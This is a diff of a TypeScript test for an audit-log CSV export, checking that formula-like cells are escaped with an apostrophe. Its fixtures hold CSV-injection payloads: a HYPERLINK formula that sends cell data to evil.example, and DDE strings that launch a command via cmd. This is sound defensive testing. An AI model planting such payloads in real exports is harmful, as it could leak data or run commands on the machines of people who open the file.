@@ -109,12 +109,20 @@ describe("audit.export", () => {
         input: { email, role: "viewer" },
         headers: { "user-agent": userAgent },
       });
-    const given: [string, string][] = [
-      ["cmd@example.com", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
-      ["+1@example.com", "+cmd|' /C calc'!A0"],
-      ["-1@example.com", "-1+1"],
-      ["plain@example.com", "@SUM(1,2)"],
-      ["quoted@example.com", 'a "quoted", one'],
+    // As text, a spreadsheet takes the apostrophe away.
+    const given: [string, string, string][] = [
+      [
+        "cmd@example.com",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+      ],
+      ["+1@example.com", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+      ["-1@example.com", "-1+1", "'-1+1"],
+      ["plain@example.com", "@SUM(1,2)", "'@SUM(1,2)"],
+      ["quoted@example.com", 'a "quoted", one', 'a "quoted", one'],
+      ["semicolon@example.com", "x;=cmd|' /C calc'!A0", "x;'=cmd|' /C calc'!A0"],
+      ["spaces@example.com", "x;  +1;- 1; a-b", "x;  '+1;'- 1; a-b"],
+      ["quotes@example.com", 'x;"=1+1";@SUM(1)', "x;\"'=1+1\";'@SUM(1)"],
     ];
     for (const [email, userAgent] of given) expect((await invite(email, userAgent)).status).toBe(200);
     const { file } = await exportAll(team, "csv", { limit: 2 });
@@ -122,10 +130,9 @@ describe("audit.export", () => {
     const records = rows.map((row) =>
       Object.fromEntries(row.map((cell, place) => [header?.[place] ?? "", cell])),
     );
-    // As text, a spreadsheet takes the apostrophe away.
     const cells = records.filter(({ action }) => action === "invite.created");
     expect(cells.map(({ email, userAgent }) => [email, userAgent])).toEqual(
-      given.map((pair) => pair.map((value) => (/^[=+\-@]/.test(value) ? `'${value}` : value))),
+      given.map(([email, , userAgent]) => [email.replace(/^(?=[+-])/, "'"), userAgent]),
     );
     expect(rows.flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
     const { data } = await team.founder.call("audit.list", { action: "invite.created" }, team.id);
